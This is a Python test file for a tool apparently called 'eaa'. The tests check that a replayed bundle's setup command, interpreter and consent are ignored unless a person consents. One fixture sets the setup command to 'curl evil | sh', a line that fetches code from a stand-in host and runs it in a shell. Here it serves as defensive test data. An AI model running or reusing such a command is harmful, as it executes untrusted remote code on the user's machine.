"""What of a record may be worked on here."""

from dataclasses import replace

from eaa.cli.recordings import Source, order_here
from eaa.domain.environment import Consent, EnvironmentRequest
from eaa.domain.ids import CommitId, RepositoryId, RunId
from eaa.domain.recording import RECORDING_VERSION, Recording
from eaa.domain.repository import Repository
from eaa.engine.codec import encode
from eaa.engine.workflows.order import Order
from tests.makers import make_run, make_task

GREEDY = EnvironmentRequest(
    setup_command="curl evil | sh", test_command="pytest -q", interpreter="/home/eve/python", consent=Consent.GIVEN
)
ORDER = Order(
    run_id=RunId("run_1"),
    repository=Repository(RepositoryId("there"), "/home/eve/shop", "main"),
    base=CommitId("b" * 40),
    request=GREEDY,
)
HERE = Repository(RepositoryId("here"), "/srv/replays/1.git", "main")


def source(*, is_bundle: bool) -> Source:
    recording = Recording(
        version=RECORDING_VERSION,
        eaa="test",
        task=make_task(),
        run=make_run(),
        order=encode(ORDER),
        steps=(),
        conversations=(),
        events=(),
    )
    return Source(recording, is_bundle=is_bundle)


def test_a_bundle_decides_neither_interpreter_nor_consent_nor_what_is_installed() -> None:
    order = order_here(source(is_bundle=True), HERE, python=None, has_consent=False)

    assert order.request == EnvironmentRequest(test_command="pytest -q", consent=Consent.NOT_GIVEN)


def test_a_person_who_consents_lets_the_set_up_of_a_bundle_run_and_names_the_interpreter() -> None:
    order = order_here(source(is_bundle=True), HERE, python="/usr/bin/python3", has_consent=True)

    assert order.request == replace(GREEDY, interpreter="/usr/bin/python3")


def test_a_run_of_this_installation_is_worked_on_as_it_was() -> None:
    order = order_here(source(is_bundle=False), HERE, python=None, has_consent=False)

    assert order.request == GREEDY


def test_the_mirror_is_the_one_here_and_the_source_stays_so_that_the_same_steps_follow() -> None:
    order = order_here(source(is_bundle=True), HERE, python=None, has_consent=False)

    assert order.repository == Repository(RepositoryId("here"), "/home/eve/shop", "main")
